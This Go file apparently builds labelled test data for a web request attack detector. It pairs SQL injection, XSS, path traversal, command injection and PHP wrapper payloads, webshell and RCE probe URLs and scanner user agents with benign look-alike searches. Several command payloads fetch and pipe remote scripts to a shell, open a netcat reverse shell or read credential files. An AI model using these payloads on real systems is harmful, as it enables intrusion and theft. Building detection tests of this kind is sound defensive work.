package access

import (
	"fmt"
	"net/url"
	"strings"
)

// labelled is a request with what it is: a class of attack, or "" for an
// ordinary one.
type labelled struct {
	class, method, target, agent string
}

const browser = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36"

// payloads are attacks of our own making, by class, as people would type them.
var payloads = map[string][]string{
	"sql": {
		"1' OR '1'='1", "1' OR 1=1-- ", "' or ''='", "admin'--", "1 UNION SELECT 1,2,3", "-1' UNION ALL SELECT NULL,NULL,CONCAT(user,0x3a,password) FROM users-- -",
		"1 AND 1=1", "1) AND 8423=8423 AND (2312=2312", "1' AND SLEEP(5)-- ", "1; WAITFOR DELAY '0:0:5'--", "1' AND (SELECT 1 FROM(SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)-- ",
		"1 AND extractvalue(1,concat(0x7e,version()))", "1' and updatexml(1,concat(0x7e,(select user()),0x7e),1)-- ", "1;DROP TABLE bids;--", "1' ORDER BY 10-- ", "1 or benchmark(10000000,MD5(1))#",
		"1'||(select 1 from dual where 1=dbms_pipe.receive_message('a',5))||'", "1;exec xp_cmdshell 'whoami'--", "1' union select load_file('/etc/passwd')-- ", "1/**/UNION/**/SELECT/**/1,2,3",
		"1 and pg_sleep(5)", "1%27%20or%20%271%27=%271", "1' AND ASCII(SUBSTRING((SELECT database()),1,1))>64-- ", "-5724 UNION ALL SELECT 34,CHAR(113)+CHAR(107),34-- pqzv",
	},
	"xss": {
		"<script>alert(1)</script>", "\"><script>alert(document.cookie)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "javascript:alert(1)", "'><iframe src=javascript:alert(1)>",
		"<body onload=alert('x')>", "<a href=\"javascript:alert(1)\">x</a>", "<ScRiPt>prompt(1)</sCrIpT>", "<img src=\"x\" onerror=\"eval(atob('YWxlcnQoMSk='))\">", "<details open ontoggle=alert(1)>", "<input autofocus onfocus=alert(1)>",
	},
	"traversal": {
		"../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "....//....//etc/passwd", "/etc/shadow", "../../../../proc/self/environ", "..%2f..%2f..%2fetc%2fpasswd", "..%252f..%252fetc%252fpasswd", "../../WEB-INF/web.xml", "../../../../boot.ini%00.html",
	},
	"command": {
		";cat /etc/passwd", "|id", "`id`", "$(whoami)", "127.0.0.1;ls -la /", "127.0.0.1 && wget http://203.0.113.5/x.sh -O /tmp/x", "a;nc -e /bin/sh 203.0.113.5 4444", "x|powershell -enc SQBFAFgA", "() { :;}; /bin/bash -c 'id'", "a&&curl http://203.0.113.5/|sh", "${jndi:ldap://203.0.113.5/a}",
	},
	"php": {
		"php://input", "php://filter/convert.base64-encode/resource=index.php", "<?php system('id'); ?>", "phpinfo();", "data://text/plain;base64,PD9waHAgcGhwaW5mbygpOz8+",
	},
}

// paths are attacks that are in the path.
var attackPaths = []labelled{
	{"traversal", "GET", "/static/..%2f..%2f..%2fetc%2fpasswd", browser},
	{"traversal", "GET", "/.git/config", browser},
	{"traversal", "GET", "/.env", browser},
	{"traversal", "GET", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", browser},
	{"webshell", "POST", "/uploads/2026/x.php", browser},
	{"webshell", "GET", "/images/shell.jsp?cmd=whoami", browser},
	{"webshell", "POST", "/c99.php", browser},
	{"webshell", "POST", "/static/ueditor/net/a.aspx", browser},
	{"webshell", "GET", "/upload/avatar.php?pass=1", browser},
	{"command", "GET", "/index.php?s=/index/think%5Capp/invokefunction&function=call_user_func_array&vars%5B0%5D=system&vars%5B1%5D%5B%5D=id", browser},
	{"command", "GET", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php?x=%3C?=system(%27id%27);?%3E", browser},
	{"scanner", "GET", "/?n=1", "sqlmap/1.7.2#stable (https://sqlmap.org)"},
	{"scanner", "GET", "/index.html?n=2", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)"},
	{"scanner", "GET", "/?n=3", "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"},
	{"scanner", "GET", "/?n=4", "masscan/1.3"},
	{"scanner", "GET", "/admin?n=5", "gobuster/3.1.0"},
	{"scanner", "GET", "/robots.txt?n=6", "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))"},
	{"scanner", "GET", "/?n=7", "WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)"},
}

func attacks() []labelled {
	var out []labelled
	for _, class := range []string{"sql", "xss", "traversal", "command", "php"} {
		for n, p := range payloads[class] {
			enc := url.QueryEscape(p)
			if strings.Contains(p, "%") {
				enc = strings.ReplaceAll(p, " ", "+")
			}
			out = append(out, labelled{class, "GET", "/bid/list?id=" + enc, browser})
			// The same, hidden: spaces as %20, letters in another case, or twice
			// encoded, among other parameters.
			hidden := strings.ReplaceAll(enc, "+", "%20")
			if n%3 == 1 {
				hidden = strings.ReplaceAll(hidden, "%27", "%2527")
			}
			out = append(out, labelled{class, "GET", fmt.Sprintf("/api/notice/search?page=%d&keyword=%s&sort=time", n, hidden), browser})
		}
	}
	return append(out, attackPaths...)
}

// ordinary are requests that are not: what people look for, with all that
// resembles an attack.
func ordinary() []labelled {
	words := []string{
		"招标公告", "政府采购 2026年第三批", "O'Brien & Sons", "D'Angelo's pizza", "C++ developer", "union square hotel", "select a supplier", "drop in replacement", "tom & jerry", "50% off", "a=b", "x<y", "price > 1000",
		"北京市海淀区中关村南大街5号(东门)", "project (phase II)", "it's a test", "rock 'n' roll", "order by phone", "Nuts and bolts; washers", "insert a coin", "\"exact phrase\"", "招标 or 投标", "1+1", "5'10\" tall", "#hashtag", "e-mail: li@example.org",
		"script writing service", "alert system", "system integration", "exec summary", "curl iron", "java script training", "cat food", "who am I", "sleep aid", "having lunch", "table from wood", "shell plc", "command centre", "base64 encoding", "Python select module",
		"采购项目（第2次）", "《招标投标法》", "【公告】中标候选人公示", "电脑/打印机", "50-100万元", "服务器|存储", "A&B公司", "100% 合格", "管理系统 v2.0", "投标保证金 < 80万",
	}
	var out []labelled
	for n, w := range words {
		out = append(out, labelled{"", "GET", "/api/notice/search?page=1&keyword=" + url.QueryEscape(w), browser})
		out = append(out, labelled{"", "GET", fmt.Sprintf("/bid/list?id=%d&name=%s", n, strings.ReplaceAll(url.QueryEscape(w), "+", "%20")), browser})
	}
	token := "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIn0.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c"
	for n, target := range []string{
		"/", "/index.html", "/login", "/favicon.ico", "/robots.txt", "/css/app.3f2a.css", "/js/vendor~main.8d1c.js", "/static/fonts/a.woff2?v=4.7.0", "/api/v1/projects?fields=id,name,status&sort=-created&limit=20",
		"/callback?code=0.AXoA&state=" + token, "/api/user?token=" + token, "/download?file=招标文件.pdf", "/download?file=" + url.QueryEscape("招标文件(最终版).pdf"), "/report?from=2026-01-01&to=2026-02-01", "/sso?SAMLRequest=fZFfa8IwFMXfBb9DyXvaJtZ1BqsURRC2Mabbw95ivc5Am3TJrXPffmmLY3%2F0NZx7fr97s%2FD2sy6DM1inpJmR&RelayState=%2Fhome",
		"/bid;jsessionid=8A1B2C3D4E5F60718293A4B5C6D7E8F9?id=5", "/project/12345/attachments/6789", "/gbk?q=%D5%D0%B1%EA", "/search?q[]=a&q[]=b", "/search?filter=%7B%22status%22%3A%22open%22%2C%22page%22%3A1%7D", "/map?bbox=116.2,39.8,116.5,40.0&z=12",
		"/redirect?url=https%3A%2F%2Fwww.example.org%2Fnotice%2F1", "/img/a.png?x-oss-process=image/resize,w_200", "/api/graphql?query=%7Bproject(id%3A1)%7Bname%7D%7D", "/log?msg=done...", "/a/b/../c.html", "/time?t=12:30:45", "/calc?expr=1%2B2*3", "/docs/c%2B%2B-guide.html", "/wx?signature=ab12&echostr=55&timestamp=1764403200&nonce=77",
		"/company?name=AT%26T", "/q?a=1&b=2&c=3&d=4&e=5&f=6", "/file/2026/11/%E9%99%84%E4%BB%B61.doc", "/v?_=1764403200123", "/pay?sign=aGVsbG8rd29ybGQ%3D%3D&amount=100.00", "/print?html=false&size=A4", "/api/order?ids=1,2,3,4,5", "/s?wd=java%20script", "/poll?since=2026-11-29T15:04:05%2B08:00",
	} {
		agent := browser
		switch n % 4 {
		case 1:
			agent = "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 MicroMessenger/8.0.49(0x1800312b) NetType/WIFI Language/zh_CN"
		case 2:
			agent = "Mozilla/5.0 (compatible; Baiduspider/2.0; +http://www.baidu.com/search/spider.html)"
		case 3:
			agent = "Apache-HttpClient/4.5.13 (Java/1.8.0_392)"
		}
		method := "GET"
		if n%7 == 2 {
			method = "POST"
		}
		out = append(out, labelled{"", method, target, agent})
	}
	return out
}
